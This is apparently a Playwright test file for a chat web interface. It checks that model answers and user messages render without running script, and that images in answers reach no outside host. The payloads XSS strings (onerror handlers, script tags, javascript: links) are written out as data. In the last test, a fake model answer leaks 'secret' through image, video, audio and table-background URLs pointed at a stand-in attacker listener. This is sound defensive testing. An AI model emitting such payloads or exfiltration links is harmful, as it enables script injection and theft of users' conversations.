"""Markdown from the model and text from the person can't run script in the page."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest_asyncio
from aiohttp import web
from playwright.async_api import Page, expect

from tests.emulators.fake_llm import FakeLLM, Reply
from tests.web.conftest import SESSION_LOOP, OpenChat, answers, questions, send

pytestmark = SESSION_LOOP

PAYLOAD = (
    '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>**bold** [link](javascript:window.__xss=3)'
)
PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
"""A 1x1 GIF: what a tracking pixel would answer."""
USER_PAYLOAD = '<img src=x onerror="window.__xss=4"> <b>not bold</b>'


async def assert_inert(page: Page) -> None:
    assert await page.evaluate("typeof window.__xss") == "undefined"
    log = page.get_by_role("log")
    assert await log.locator("script").count() == 0
    assert await log.locator("[onerror]").count() == 0
    assert await log.locator("a[href^='javascript']").count() == 0


async def test_html_in_answers_and_questions_stays_inert(page: Page, open_chat: OpenChat, fake_llm: FakeLLM) -> None:
    chat = await open_chat()
    fake_llm.script(Reply(text=PAYLOAD, chunk_delay=0.01))
    await page.goto(chat.talk_url)
    await send(page, USER_PAYLOAD)

    await expect(answers(page).locator("strong")).to_have_text("bold")
    await expect(questions(page)).to_have_text(USER_PAYLOAD)
    await expect(questions(page).locator("b")).to_have_count(0)
    await assert_inert(page)

    await page.reload()  # the history is rendered by another path
    await expect(answers(page).locator("strong")).to_have_text("bold")
    await expect(questions(page)).to_have_text(USER_PAYLOAD)
    await assert_inert(page)


async def test_links_in_answers_open_in_a_new_tab(page: Page, open_chat: OpenChat, fake_llm: FakeLLM) -> None:
    chat = await open_chat()
    fake_llm.script(Reply(text="See [our docs](https://docs.example.com/start)."))
    await page.goto(chat.talk_url)
    await send(page, "Where are the docs?")

    link = answers(page).get_by_role("link", name="our docs")
    await expect(link).to_have_attribute("href", "https://docs.example.com/start")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


@dataclass
class Listener:
    """A loopback server standing in for an attacker's host: it records every request it gets."""

    url: str
    hits: list[str] = field(default_factory=list)


@pytest_asyncio.fixture(loop_scope="session")
async def listener() -> AsyncIterator[Listener]:
    found = Listener(url="")

    async def record(request: web.Request) -> web.Response:
        found.hits.append(str(request.rel_url))
        return web.Response(body=PIXEL, content_type="image/gif")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    found.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        yield found
    finally:
        await runner.cleanup()



async def test_l1_images_in_an_answer_make_no_request_to_another_host(
    page: Page, open_chat: OpenChat, fake_llm: FakeLLM, listener: Listener
) -> None:
    """An answer steered into carrying the conversation in an image URL (markdown or raw HTML, images,
    media, a table background) reaches no other host: the answer shows the alt text instead."""
    leak = f"{listener.url}/leak?q=secret"
    fake_llm.script(Reply(text=(
        f"Here you go ![chart]({leak}) and <img src='{leak}&raw=1'> <video src='{leak}&v=1'></video>"
        f"<audio src='{leak}&a=1'></audio><table background='{leak}&t=1'><tr><td>x</td></tr></table> Done."
    )))
    await page.goto(chat_url := (await open_chat()).talk_url)
    await send(page, "Show me the chart")

    await expect(answers(page)).to_contain_text("Done.")
    await expect(answers(page)).to_contain_text("[chart]")
    await page.wait_for_load_state("networkidle")
    assert listener.hits == []
    assert await answers(page).locator("img, video, audio").count() == 0

    await page.goto(chat_url)  # the stored answer, rendered from the history
    await expect(answers(page)).to_contain_text("[chart]")
    await page.wait_for_load_state("networkidle")
    assert listener.hits == []
